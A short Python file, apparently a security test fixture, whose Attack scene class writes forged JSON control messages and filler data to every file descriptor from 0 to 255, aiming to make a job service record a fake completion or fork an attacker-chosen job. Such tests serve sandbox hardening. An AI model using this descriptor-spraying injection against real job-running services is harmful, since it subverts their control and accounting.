"""Success: the service believes that a job has ended, or forks one of the job's choice.

Outcome: completed
"""


class Attack(Scene):
    def construct(self):
        for descriptor in range(256):
            for line in (
                b'{"type":"ended","job":"1","exitCode":0}\n',
                b'{"type":"fork","job":"2"}\n',
                b"x" * 10_000,
            ):
                try:
                    os.write(descriptor, line)
                except OSError:
                    pass
